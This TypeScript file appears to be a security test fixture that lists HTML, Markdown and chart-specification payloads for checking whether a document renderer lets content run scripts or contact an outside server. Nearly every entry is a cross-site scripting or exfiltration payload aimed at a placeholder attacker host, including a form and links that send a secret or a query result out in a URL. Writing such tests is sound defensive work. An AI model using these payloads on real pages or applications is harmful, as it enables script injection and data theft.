import { secret } from "./statements.ts";

/**
 * Markdown and specifications of figures that try to run a script, to fetch, to navigate or to carry a cell's value
 * out in an address. `url` is the attacker's server.
 */
export function elements(url: string): readonly string[] {
  const html = [
    `<script>fetch('${url}/script')</script>`,
    `<script src="${url}/script.js"></script>`,
    `<img src="${url}/img.png" onerror="fetch('${url}/onerror')">`,
    `<img srcset="${url}/srcset.png 2x">`,
    `<picture><source srcset="${url}/source.png"><img></picture>`,
    `<svg onload="fetch('${url}/onload')"><image href="${url}/image.png"/><use href="${url}/use.svg#a"/></svg>`,
    `<svg><filter id="f"><feImage href="${url}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    `<svg><a href="javascript:fetch('${url}/svg-a')"><text>a</text></a></svg>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>`,
    `<style>@import url(${url}/style.css); body { background: url(${url}/bg.png) }</style>`,
    `<p style="background: url(${url}/inline.png)">styled</p>`,
    `<link rel="stylesheet" href="${url}/link.css">`,
    `<link rel="preload" as="image" href="${url}/preload.png">`,
    `<link rel="prefetch" href="${url}/prefetch"><link rel="dns-prefetch" href="${url}">`,
    `<meta http-equiv="refresh" content="0; url=${url}/refresh">`,
    `<base href="${url}/">`,
    `<iframe src="${url}/frame"></iframe>`,
    `<iframe srcdoc="<script>parent.fetch('${url}/srcdoc')</script>"></iframe>`,
    `<object data="${url}/object"></object><embed src="${url}/embed">`,
    `<video src="${url}/video.mp4" poster="${url}/poster.png" autoplay></video>`,
    `<audio src="${url}/audio.mp3" autoplay></audio><track src="${url}/track.vtt">`,
    `<form action="${url}/form"><input name="d" value="${secret}"><button>Go</button></form>`,
    `<input type="image" src="${url}/input.png">`,
    `<a href="${url}/ping" ping="${url}/pinged">ping</a>`,
    `<table background="${url}/table.png"><tr><td>t</td></tr></table>`,
    `<details open ontoggle="fetch('${url}/toggle')"><summary>s</summary></details>`,
    `<template shadowrootmode="open"><img src="${url}/shadow.png"></template>`,
    `<noscript><img src="${url}/noscript.png"></noscript>`,
    `<x-frame onfocus="fetch('${url}/focus')" autofocus tabindex=1>x</x-frame>`,
    `<!--[if IE]><script src="${url}/ie.js"></script><![endif]-->`,
  ];
  const markdown = [
    `![picture](${url}/markdown.png)`,
    `![picture][ref]\n\n[ref]: ${url}/reference.png "title"`,
    `[a link](javascript:fetch('${url}/javascript'))`,
    `[a link](${url}/navigate?d=\${held.serial})`,
    `[a link](data:text/html,<script>fetch('${url}/data')</script>)`,
    `[a link](vbscript:msgbox)`,
    `<javascript:fetch('${url}/auto')>`,
    `<${url}/autolink?d=\${held.serial}>`,
    `\${held.html}`,
    "```html\n<script>fetch('/x')</script>\n```",
    "```js\nfetch('/x')\n```",
    `# <img src=${url}/heading.png> heading`,
    `| a |\n| - |\n| <img src=${url}/cell.png> |`,
  ];
  const specifications = [
    `\`\`\`sql id=held\nSELECT serial, '<img src=${url}/value.png onerror=fetch()>' AS html, '${url}/a.png' AS src FROM trace_records\n\`\`\``,
    ...[
      `- dot: {x: serial, y: serial, href: src}`,
      `- dot: {x: serial, y: serial, href: {value: "javascript:fetch('${url}')"}}`,
      `- image: {x: serial, y: serial, src: src}`,
      `- image: {x: serial, y: serial, src: "${url}/plot.png"}`,
      `- text: {x: serial, y: serial, text: html, title: html, tip: true}`,
      `- dot: {x: serial, y: serial, fill: "url(${url}/fill.svg#a)"}`,
      `- dot: {x: serial, y: serial, stroke: "url(${url}/stroke.svg#a)", className: "x\\" onload=fetch() y=\\""}`,
      `- dot: {x: serial, y: serial, render: "fetch('${url}/render')"}`,
    ].map((mark, i) => `\`\`\`plot id=plot_${i} data=held alt="<img src=${url}/alt.png>"\nmarks:\n  ${mark}\n\`\`\``),
    `\`\`\`plot id=styled data=held alt="A"\nstyle: "background: url(${url}/style.png)"\nmarks:\n  - dot: {x: serial, y: serial}\n\`\`\``,
    `\`\`\`plot id=captioned data=held alt="A"\ncaption: "<img src=${url}/caption.png>"\nmarks:\n  - dot: {x: serial, y: serial}\n\`\`\``,
    `\`\`\`table id=shown data=held\ntitle: "<img src=${url}/title.png onerror=fetch()>"\n\`\`\``,
    `\`\`\`input id=pick\ntype: select\nlabel: "<img src=${url}/label.png>"\noptions: SELECT html FROM held\n\`\`\``,
  ];
  return [...html, ...markdown, ...specifications];
}
